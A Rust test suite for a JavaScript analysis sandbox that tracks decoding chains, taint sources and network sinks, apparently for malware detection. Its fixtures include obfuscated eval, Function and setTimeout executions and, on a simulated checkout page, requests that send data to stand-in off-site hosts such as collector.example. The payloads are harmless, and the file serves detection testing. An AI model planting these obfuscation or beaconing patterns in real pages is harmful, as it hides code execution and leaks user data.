use script_sentinel::{
    AnalysisConfig, ChainKind, ExecutionHarness, ExecutionLimits, ExecutionReport, HookCategory,
    Result, TaintSourceKind,
};

fn run_with(config: AnalysisConfig, src: &str) -> Result<ExecutionReport> {
    let report = ExecutionHarness::new(config)?.run(src);
    assert!(report.fault.is_none(), "unexpected fault: {:?}", report.fault);
    Ok(report)
}

fn run(src: &str) -> Result<ExecutionReport> {
    run_with(AnalysisConfig::default(), src)
}

fn step_names(report: &ExecutionReport, id: usize) -> Vec<&str> {
    report.chains[id]
        .steps
        .iter()
        .map(|step| step.function.as_str())
        .collect()
}

#[test]
fn layered_decoding_into_eval_completes_a_chain() -> Result<()> {
    let report = run("var code = atob(btoa(\"console.log('ran')\")); eval(code);")?;
    assert_eq!(report.console_lines(), vec!["ran"]);
    assert_eq!(report.chains.len(), 1);
    let chain = &report.chains[0];
    assert_eq!(chain.kind, ChainKind::DangerousExecution);
    assert!(chain.completed);
    assert!(chain.is_multi_layer());
    assert_eq!(chain.layers, 2);
    assert_eq!(chain.severity, 10);
    assert!(chain.reason.as_deref().is_some_and(|reason| reason.contains("'eval'")));
    assert_eq!(step_names(&report, 0), vec!["btoa", "atob", "eval"]);
    assert_eq!(report.summary().executed_chains, 1);
    Ok(())
}

#[test]
fn function_constructor_and_string_timers_are_executors() -> Result<()> {
    let report = run(
        "console.log(new Function(atob('cmV0dXJuIDQy'))());\
         setTimeout(unescape('%63%6F%6E%73%6F%6C%65%2E%6C%6F%67%28%27%6C%61%74%65%27%29'), 5);",
    )?;
    assert_eq!(report.console_lines(), vec!["42", "late"]);
    let executed = report
        .executed_chains()
        .map(|chain| chain.steps.last().map(|step| step.function.clone()))
        .collect::<Vec<_>>();
    assert_eq!(
        executed,
        vec![Some("Function".to_string()), Some("setTimeout".to_string())]
    );
    Ok(())
}

#[test]
fn decoded_keywords_escalate_the_step() -> Result<()> {
    let report = run("var payload = atob('ZXZhbCgiMSIp'); var plain = atob('YQ==');")?;
    assert_eq!(report.chains.len(), 2);
    let escalated = &report.chains[0];
    assert_eq!(escalated.kind, ChainKind::Decoding);
    assert!(!escalated.completed);
    assert_eq!(escalated.steps[0].severity, 9);
    assert_eq!(escalated.dangerous_keywords, vec!["eval".to_string()]);
    assert_eq!(report.chains[1].steps[0].severity, 6);
    assert!(report.chains[1].dangerous_keywords.is_empty());
    Ok(())
}

#[test]
fn untainted_code_and_synthesis_alone_start_no_chain() -> Result<()> {
    let report = run(
        "eval('1 + 1');\
         var s = String.fromCharCode(104, 105) + String.fromCodePoint(33);\
         eval('\"' + s + '\"');",
    )?;
    assert!(report.chains.is_empty());
    assert_eq!(report.taint_sources["String.fromCodePoint"], 1);
    let evals = report
        .hook_events
        .iter()
        .filter(|event| event.name == "eval")
        .count();
    assert_eq!(evals, 2);
    Ok(())
}

#[test]
fn verdicts_flag_destinations_off_the_document_host() -> Result<()> {
    let config = AnalysisConfig::default().with_document_url("https://www.shop.test/checkout");
    let report = run_with(
        config,
        "fetch('https://collector.example/c');\
         fetch('/api/cart');\
         navigator.sendBeacon('//shop.test/beacon', 'x');\
         var x = new XMLHttpRequest(); x.open('POST', 'https://cdn.elsewhere.test/p'); x.send('d');",
    )?;
    let external = report
        .verdicts
        .iter()
        .map(|verdict| verdict.external)
        .collect::<Vec<_>>();
    assert_eq!(external, vec![true, false, false, true]);
    assert_eq!(report.summary().external_sinks, 2);
    Ok(())
}

#[test]
fn taint_records_keep_provenance_up_to_the_limit() -> Result<()> {
    let script = "atob('YQ=='); escape('x y'); String.fromCodePoint(65);";
    let report = run(script)?;
    let records = report
        .taint_records
        .iter()
        .map(|record| (record.tag, record.source.as_str(), record.kind))
        .collect::<Vec<_>>();
    assert_eq!(
        records,
        vec![
            (1, "atob", TaintSourceKind::Decode),
            (2, "escape", TaintSourceKind::Encode),
            (3, "String.fromCodePoint", TaintSourceKind::CharSynthesis),
        ]
    );

    let capped = run_with(AnalysisConfig::default().with_taint_record_limit(1), script)?;
    assert_eq!(capped.taint_count, 3);
    assert_eq!(capped.taint_records.len(), 1);
    Ok(())
}

#[test]
fn hook_events_are_scored_and_bounded() -> Result<()> {
    let report = run("eval('1'); atob('YQ=='); fetch('https://a.test/');")?;
    let events = report
        .hook_events
        .iter()
        .map(|event| (event.category, event.name.as_str(), event.severity))
        .collect::<Vec<_>>();
    assert_eq!(
        events,
        vec![
            (HookCategory::FunctionCall, "eval", 10),
            (HookCategory::CryptoOperation, "atob", 6),
            (HookCategory::NetworkRequest, "fetch", 6),
        ]
    );
    assert_eq!(report.events_at_least(10).count(), 1);
    assert_eq!(report.hook_events[1].detail.as_deref(), Some("a"));

    let limits = ExecutionLimits {
        max_hook_events: 10,
        ..ExecutionLimits::default()
    };
    let bounded = run_with(
        AnalysisConfig::default().with_limits(limits),
        "for (var i = 0; i < 25; i++) { atob('YQ=='); }",
    )?;
    assert_eq!(bounded.hook_events.len(), 10);
    assert_eq!(bounded.hook_events_dropped, 15);
    assert_eq!(bounded.hook_events.last().map(|event| event.seq), Some(24));
    Ok(())
}
